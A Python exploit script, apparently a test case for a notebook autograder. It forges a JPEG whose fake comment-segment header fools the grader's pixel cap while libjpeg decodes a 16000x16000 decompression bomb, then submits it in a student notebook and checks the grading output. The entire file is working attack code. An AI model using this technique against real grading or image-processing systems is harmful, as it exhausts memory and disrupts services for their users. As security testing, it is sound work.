"""a02: JPEG header desync past the pixel cap. The cap's JPEG parser reads a fill byte (FF FF) as a marker with a
length, jumps into a comment segment and finds a fake 16x16 SOF there; libjpeg (Chrome, Pillow) skips fill bytes,
skips the comment and decodes the real SOF: a 16000x16000 image counted as 256 pixels."""
import sys, io, base64, zlib, struct; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from lib import *
from PIL import Image
from grader.feedback import image_size, MAX_IMAGE_PIXELS

def bomb(w, h):
    buf = io.BytesIO()
    Image.new("L", (min(w, 4000), min(h, 4000)), 0).save(buf, "JPEG", quality=10)
    real = bytearray(buf.getvalue())
    sof = real.index(b"\xff\xc0")
    real[sof + 5:sof + 9] = struct.pack(">HH", h, w)  # the real frame: h x w (scan truncated below anyway)
    real = bytes(real)
    sos = real.index(b"\xff\xda")
    real = real[:sos + 20000] + b"\xff\xd9"  # truncated scan: decoders allocate the whole frame anyway
    assert real[:2] == b"\xff\xd8"
    L = 0xFFFF
    com_body = bytearray(L - 2)
    # checker: at=2, marker=raw[3]=0xFF, length=raw[4:6]=(0xFE, L>>8) -> jumps to 2+2+length
    jump = 4 + ((0xFE << 8) | (L >> 8))
    off = jump - 7  # COM content starts at raw[7]
    fake = b"\xff\xc0\x00\x11\x08\x00\x10\x00\x10\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    com_body[off:off + len(fake)] = fake
    data = b"\xff\xd8" + b"\xff" + b"\xff\xfe" + struct.pack(">H", L) + bytes(com_body) + real[2:]
    return data

if __name__ == "__main__":
    W = int(sys.argv[1]) if len(sys.argv) > 1 else 16000
    data = bomb(W, W)
    b64 = base64.b64encode(data).decode()
    print("jpeg bytes", len(data), "checker says", image_size("image/jpeg", b64), "cap", MAX_IMAGE_PIXELS)
    Image.MAX_IMAGE_PIXELS = None; im = Image.open(io.BytesIO(data)); print("Pillow (libjpeg-style parser) says", im.size)
    packed = base64.b64encode(zlib.compress(data, 9)).decode()
    print("packed b64 chars", len(packed))
    N = int(sys.argv[2]) if len(sys.argv) > 2 else 3
    code = ('q1 = "b"\nimport base64, zlib\nfrom IPython.display import Image as _I, display as _d\n'
            f'_j = zlib.decompress(base64.b64decode("{packed}"))\n'
            f'for _ in range({N}): _d(_I(data=_j, format="jpeg"))\n')
    d = make_course("a02")
    hand_in(d, "aaron", notebook())
    hand_in(d, "mallory", notebook(overrides={"quiz_q1": code}))
    hand_in(d, "zoe", notebook())
    grade(d)
    scores(d)
    for where in (f"{d}/autograded/mallory/ps1_memory/ps1_memory.ipynb", f"{d}/feedback/mallory/ps1_memory/ps1_memory.html"):
        t = open(where).read()
        print(where, "size", len(t), "jpeg kept:", t.count("/9j/"), "not-shown notes:", t.count("not shown: at most"))
